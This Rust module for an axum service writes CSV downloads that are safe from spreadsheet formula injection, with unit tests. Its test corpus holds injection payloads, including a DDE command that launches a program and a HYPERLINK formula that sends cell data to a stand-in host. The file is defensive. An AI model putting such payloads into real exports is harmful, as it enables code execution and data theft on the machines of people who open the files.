//! Sheets as every office program reads them: RFC 4180, UTF-8 with a mark in front, and no cell that such a program
//! would take for a formula.

use axum::{
    http::header::{CONTENT_DISPOSITION, CONTENT_TYPE},
    response::{IntoResponse, Response},
};
use csv::{Terminator, Writer, WriterBuilder};

/// Without it, Excel reads UTF-8 as the letters of its own country.
const MARK: &str = "\u{feff}";
/// What a formula begins with, for one program or another; full-width signs count in some.
const BEGINS_A_FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// What stands in a cell.
#[derive(Clone, Debug)]
pub enum Cell {
    /// Words, wherever they come from.
    Text(String),
    /// A number of ours in plain ASCII, which programs may add up; it may begin with a minus.
    Number(String),
}

/// A sheet that is being written.
pub struct Sheet(Writer<Vec<u8>>);

impl Sheet {
    /// With these words above the columns.
    pub fn new(columns: &[&str]) -> csv::Result<Self> {
        let writer = WriterBuilder::new().terminator(Terminator::CRLF).from_writer(MARK.as_bytes().to_vec());
        let mut sheet = Self(writer);
        sheet.row(columns.iter().map(|column| Cell::Text((*column).to_owned())))?;
        Ok(sheet)
    }

    /// One row, a cell per column.
    pub fn row(&mut self, cells: impl IntoIterator<Item = Cell>) -> csv::Result<()> {
        self.0.write_record(cells.into_iter().map(written))
    }

    /// The file.
    pub fn into_bytes(self) -> Option<Vec<u8>> {
        self.0.into_inner().ok()
    }
}

/// What is no number is text, whoever called it one.
fn written(cell: Cell) -> String {
    match cell {
        Cell::Number(number) if is_number(&number) => number,
        Cell::Number(text) | Cell::Text(text) if text.starts_with(BEGINS_A_FORMULA) => format!("'{text}"),
        Cell::Number(text) | Cell::Text(text) => text,
    }
}

fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    let are_digits = |part: &str| !part.is_empty() && part.bytes().all(|byte| byte.is_ascii_digit());
    are_digits(whole) && are_digits(fraction)
}

/// The file as an answer that is saved, not shown. The name is ours and ASCII.
pub fn download(name: &str, bytes: Vec<u8>) -> Response {
    let saved = format!("attachment; filename=\"{name}\"");
    ([(CONTENT_TYPE, "text/csv; charset=utf-8".to_owned()), (CONTENT_DISPOSITION, saved)], bytes).into_response()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sheet(rows: &[Vec<Cell>]) -> String {
        let mut sheet = Sheet::new(&["What", "Amount"]).unwrap();
        rows.iter().for_each(|row| sheet.row(row.clone()).unwrap());
        String::from_utf8(sheet.into_bytes().unwrap()).unwrap()
    }

    fn text(text: &str) -> Cell {
        Cell::Text(text.into())
    }

    /// What a program that keeps to RFC 4180 reads.
    fn read(sheet: &str) -> Vec<Vec<String>> {
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(sheet.as_bytes());
        reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
    }

    #[test]
    fn no_cell_is_a_formula() {
        let corpus = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://evil.example?\"&A1,\"see\")",
            "+1+1",
            "-1+1",
            "-2",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM",
            "=",
            "-",
        ];
        for formula in corpus {
            for cell in [text(formula), Cell::Number(format!("{formula} "))] {
                let rows = read(&sheet(&[vec![cell, text("x")]]));
                assert!(rows[1][0].starts_with('\''), "{formula:?} became {:?}", rows[1][0]);
            }
        }
    }

    #[test]
    fn money_that_went_stays_a_number() {
        let rows = read(&sheet(&[vec![text("fee"), Cell::Number("-12.50".into())]]));
        assert_eq!(rows[1], ["fee", "-12.50"]);
        assert!(["1e5", "--1", "1.", ".5", "-", "", "1+1", "۱۲", "0x1"].iter().all(|it| !is_number(it)));
    }

    #[test]
    fn quotes_commas_lines_and_every_alphabet_come_back_as_they_were() {
        let cells = ["a \"lamp\", old", "two\r\nlines", "سلام؛ نیم‌فاصله", "😀", ""];
        for cell in cells {
            assert_eq!(read(&sheet(&[vec![text(cell), text("x")]]))[1][0], cell);
        }
    }

    #[test]
    fn the_file_begins_with_its_mark_and_ends_its_lines_as_the_rule_says() {
        assert_eq!(sheet(&[vec![text("a"), Cell::Number("1".into())]]), "\u{feff}What,Amount\r\na,1\r\n");
    }

    #[test]
    fn a_row_of_another_length_is_a_mistake_of_ours() {
        assert!(Sheet::new(&["What", "Amount"]).unwrap().row([text("alone")]).is_err());
    }
}
